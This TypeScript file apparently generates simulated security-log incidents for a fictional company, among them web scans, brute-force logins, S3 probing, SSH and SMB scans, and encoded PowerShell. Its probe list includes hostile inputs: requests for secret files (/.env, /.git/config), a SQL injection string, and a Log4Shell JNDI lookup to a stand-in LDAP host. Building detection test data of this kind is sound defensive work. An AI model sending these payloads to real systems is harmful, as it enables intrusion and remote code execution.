import { staging } from "../company/accounts.ts";
import { servers } from "../company/offices.ts";
import { vpcFlow, zeek } from "../formats/network.ts";
import { nginx, s3Access } from "../formats/web.ts";
import { processStarted, windows } from "../formats/windows.ts";
import { windowsPeople } from "../traffic/laptops.ts";
import { strangerIp, visitorIp } from "../traffic/web-visits.ts";
import type { Incident } from "./incident.ts";

const scannerIp = "10.20.0.40";
const attempts = [
  "/.env",
  "/wp-login.php",
  "/.git/config",
  "/search?q=1%27%20union%20select%201,2",
  "/?x=%24%7Bjndi:ldap://203.0.113.9/a%7D",
];

export const networkAndLaptopIncidents: readonly Incident[] = [
  {
    raises: "Nginx.Access.ScannedByOneAddress",
    weight: 5,
    events: (atMs, random) => {
      const ip = strangerIp(random);
      return Array.from({ length: 34 }, (_, i) => {
        const path = attempts[i % attempts.length] ?? "/.env";
        return nginx({
          atMs: atMs + i * 900,
          ip,
          method: "GET",
          path,
          status: 404,
          bytes: 153,
          userAgent: "Mozilla/5.0 zgrab/0.x",
          notable: i === 30,
        });
      });
    },
  },
  {
    raises: "Nginx.Access.LoginsRefusedInBulk",
    weight: 2,
    events: (atMs, random) => {
      const login = {
        ip: visitorIp(random),
        method: "POST",
        path: "/api/login",
        status: 401,
        bytes: 88,
        userAgent: "python-requests/2.32.5",
      } as const;
      return Array.from({ length: 44 }, (_, i) => nginx({ ...login, atMs: atMs + i * 700, notable: i === 40 }));
    },
  },
  {
    raises: "AWS.S3ServerAccess.RefusedInBulk",
    weight: 1,
    events: (atMs, random) => {
      const probe = {
        ip: strangerIp(random),
        bucket: "meridian-website-assets",
        operation: "REST.GET.OBJECT",
        status: 403,
        bytes: 0,
      } as const;
      return Array.from({ length: 60 }, (_, i) =>
        s3Access({ ...probe, key: `backup-${i}.sql.gz`, atMs: atMs + i * 400, notable: i === 55 }),
      );
    },
  },
  {
    raises: "Zeek.SSH.ScannerConnected",
    weight: 2,
    events: (atMs) => [
      zeek({
        atMs,
        log: "ssh",
        from: scannerIp,
        to: servers.build.ip,
        toPort: 22,
        fields: { client: "SSH-2.0-Nmap-SSH2-Hostkey", auth_attempts: 0 },
        notable: true,
      }),
    ],
  },
  {
    raises: "Zeek.Notice.AttackNoticed",
    weight: 2,
    events: (atMs) => {
      const msg = `${scannerIp} scanned at least 40 unique hosts on port 445/tcp in 1m12s`;
      const fields = {
        note: "Scan::Address_Scan",
        msg,
        src: scannerIp,
        actions: ["Notice::ACTION_LOG"],
        suppress_for: 3600,
      };
      return [zeek({ atMs, log: "notice", from: scannerIp, to: servers.files.ip, toPort: 445, fields, notable: true })];
    },
  },
  {
    raises: "Windows.EventLogs.PowerShellEncodedCommand",
    weight: 3,
    events: (atMs, random) => {
      const person = random.pick(windowsPeople);
      const encoded = Buffer.from("Get-HotFix | ConvertTo-Json", "utf16le").toString("base64");
      const image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
      const parent = "C:\\Program Files\\Meridian Agent\\agent.exe";
      return [
        processStarted({
          atMs,
          host: person.laptop,
          user: "SYSTEM",
          image,
          commandLine: `powershell.exe -EncodedCommand ${encoded}`,
          parent,
          notable: true,
        }),
      ];
    },
  },
  {
    raises: "Windows.EventLogs.LogonsFailFromOneAddress",
    weight: 2,
    events: (atMs, random) => {
      const person = random.pick(windowsPeople);
      const fields = { TargetUserName: person.account, LogonType: "3", IpAddress: person.lanIp, Status: "0xC000006D" };
      return Array.from({ length: 13 }, (_, i) =>
        windows({
          atMs: atMs + i * 5000,
          host: servers.files.host,
          channel: "Security",
          id: 4625,
          fields,
          notable: i === 11,
        }),
      );
    },
  },
  {
    raises: "AWS.VPCFlow.AdministrationFromInternet",
    weight: 1,
    events: (atMs, random) => {
      const { networkInterface, ip } = random.pick(staging.web);
      const flow = {
        account: staging,
        networkInterface,
        from: strangerIp(random),
        fromPort: 51515,
        to: ip,
        toPort: 22,
      };
      return [vpcFlow({ ...flow, atMs, packets: 21, bytes: 4030, accepted: true, notable: true })];
    },
  },
];
